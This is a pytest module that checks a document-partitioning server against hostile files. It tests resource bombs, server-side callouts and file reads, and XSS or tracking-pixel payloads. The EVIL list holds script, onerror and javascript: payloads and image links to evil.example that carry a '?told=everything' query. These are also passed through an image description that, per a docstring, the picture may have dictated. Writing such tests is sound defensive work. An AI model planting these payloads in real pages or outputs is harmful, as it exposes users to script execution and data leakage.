"""Hostile documents against a running server: each ends soon with elements or a refusal, nothing
outside is asked for, nothing of them runs in what comes out, and the memory stays bounded.
"""

import json
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from backend.partition import to_markdown
from backend.partition.html import to_html
from tests.backend_process import COMMAND, BackendProcess
from tests.long_fuzz import fuzz
from tests.reliability import active_content
from tests.reliability.hostile_documents import BOMBS, SLOW, callers, word
from tests.reliability.test_mixed_kill import processes_of
from workbench.contract.elements import Element
from workbench.contract.partition_options import MarkdownOptions

PARTITION = "/v1/document/partition"
_MOST_BYTES = 1_500_000_000


@pytest.fixture(scope="module")
def backend(tmp_path_factory: pytest.TempPathFactory) -> Iterator[BackendProcess]:
    """With the memory that is left to workers unless somebody sets another."""
    settings = {"workers": "2", "worker_cpu_seconds": "30"}
    folder = tmp_path_factory.mktemp("hostile") / "data"
    process = BackendProcess(folder, settings, COMMAND).start()
    yield process
    process.stop()


@pytest.fixture(scope="module")
def memory(backend: BackendProcess) -> Iterator[list[int]]:
    """The highest memory of server and workers together, sampled all the while."""
    highest, ended = [0], threading.Event()

    def sample() -> None:
        while not ended.wait(0.05):
            highest[0] = max(highest[0], sum(map(_resident, processes_of(backend.pid))))

    thread = threading.Thread(target=sample)
    thread.start()
    yield highest
    ended.set()
    thread.join()


def _resident(pid: int) -> int:
    try:
        return int(Path(f"/proc/{pid}/statm").read_text().split()[1]) * 4096
    except OSError:
        return 0


def partitioned(backend: BackendProcess, data: bytes, **options: Any) -> tuple[int, Any]:
    with backend.client() as http:
        sent = {"file": ("file", data), "options": (None, json.dumps(options))}
        answer = http.post(PARTITION, files=sent, timeout=120)
        return answer.status_code, answer.json()


@pytest.mark.parametrize(
    "name", [pytest.param(n, marks=pytest.mark.soak if n in SLOW else ()) for n in BOMBS]
)
def test_a_bomb_does_not_go_off(backend: BackendProcess, memory: list[int], name: str) -> None:
    data = BOMBS[name]()
    began = time.monotonic()
    status, body = partitioned(backend, data)
    seconds, message = time.monotonic() - began, str(body.get("detail") or body.get("error"))
    print(f"{name}: {len(data)} bytes, {status}, {seconds:.1f} s, {memory[0] >> 20} MiB, {message}")
    assert status in (200, 400, 413, 415, 422), body
    assert partitioned(backend, b"Words.")[0] == 200, "the next document is read as before"
    assert memory[0] < _MOST_BYTES


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[str, list[str]]]:
    """An address that notes who calls."""
    calls: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.1)
        ended = threading.Event()

        def listen() -> None:
            while not ended.is_set():
                try:
                    connection, caller = server.accept()
                except TimeoutError:
                    continue
                calls.append(str(caller))
                connection.close()

        thread = threading.Thread(target=listen)
        thread.start()
        yield f"http://127.0.0.1:{server.getsockname()[1]}", calls
        ended.set()
        thread.join()


def test_no_document_makes_the_server_call_or_read_a_file(
    backend: BackendProcess, listener: tuple[str, list[str]]
) -> None:
    url, calls = listener
    for name, data in callers(url).items():
        for output in ("json", "html", "markdown"):
            status, body = partitioned(backend, data, output_format=output)
            assert status in (200, 400, 415, 422), (name, body)
            assert "root:" not in json.dumps(body), name
    assert calls == []


EVIL = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "![seen](http://evil.example/pixel.png?told=everything)",
    "[click]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '"><svg/onload=alert(1)>',
    "</td></tr></table><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "![b]\n\n1. [b]: http://evil.example/pixel.png",
    "![b]\n\n- > [b]: http://evil.example/pixel.png",
    "![b c]\n\n[b\nc]: http://evil.example/pixel.png",
    "[b\\]c]: http://evil.example/pixel.png\n\n![b\\]c]",
    "```\nno end",
]


@pytest.mark.parametrize("kind", ["text", "word", "table", "html"])
def test_text_of_a_document_never_runs_where_it_is_shown(
    backend: BackendProcess, kind: str
) -> None:
    as_html = partitioned(backend, _saying(kind), output_format="html")[1]["html"]
    as_markdown = partitioned(backend, _saying(kind), output_format="markdown")[1]["markdown"]
    assert_harmless(as_html, as_markdown)


@pytest.mark.parametrize("text", [*EVIL, "\n".join(EVIL)])
def test_a_models_description_of_a_picture_never_runs_where_it_is_shown(text: str) -> None:
    """The picture itself may have dictated the answer."""
    element = Element(type="Image", bbox=(0, 0, 1, 1), properties={}, text_representation=text)
    as_markdown = to_markdown([element], MarkdownOptions())
    assert isinstance(as_markdown, str)
    assert_harmless(to_html([element]), as_markdown)


def assert_harmless(as_html: str, as_markdown: str) -> None:
    assert active_content.in_html(as_html) == []
    assert active_content.in_markdown(as_markdown) == []


_MARKS = """[ ] ( ) ! < > : \\ - a b 1. # ` ``` ~~~ * _ | &lt; &#91; &colon; ^ " ' == --- [b] ![b]
[b]:http://e.example ](http://e.example) <script> <http://e.example> javascript:1"""
_texts = st.lists(
    st.sampled_from(
        [*_MARKS.split(), *("\n", "\n\n", " ", "    ", "\t", "\r", "\x0b", "\x0c", "\u2028")]
    ),
    min_size=1,
    max_size=9,
).map("".join)
_kinds = st.sampled_from(["Text", "Title", "List-item", "Image", "Section-header", "Footnote"])
_elements = st.lists(
    st.builds(
        Element,
        type=_kinds,
        bbox=st.just((0, 0, 1, 1)),
        properties=st.sampled_from([{}, {}, {"number": 1}, {"verbatim": True}, {"level": 2}]),
        text_representation=_texts,
    ),
    min_size=1,
    max_size=4,
)


def _is_harmless(elements: list[Element]) -> None:
    as_markdown = to_markdown(elements, MarkdownOptions())
    assert isinstance(as_markdown, str)
    assert_harmless(to_html(elements), as_markdown)


@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
@given(elements=_elements)
def test_no_text_of_a_document_becomes_a_link_a_picture_or_a_tag(elements: list[Element]) -> None:
    _is_harmless(elements)


@pytest.mark.soak
def test_of_very_many_texts_none_becomes_a_link_a_picture_or_a_tag() -> None:
    fuzz("output", _elements, _is_harmless)


def _saying(kind: str) -> bytes:
    escaped = [text.replace("&", "&amp;").replace("<", "&lt;") for text in EVIL]
    if kind == "text":
        return "\n\n".join(["Words come first.", *EVIL[:-1]]).encode()
    if kind == "word":
        return word("".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in escaped))
    if kind == "table":
        return "\n".join(f'"{text.replace(chr(34), chr(34) * 2)}",1,2' for text in EVIL).encode()
    return "".join(["<!doctype html>", *(f"<p>{text}</p>" for text in escaped)]).encode()
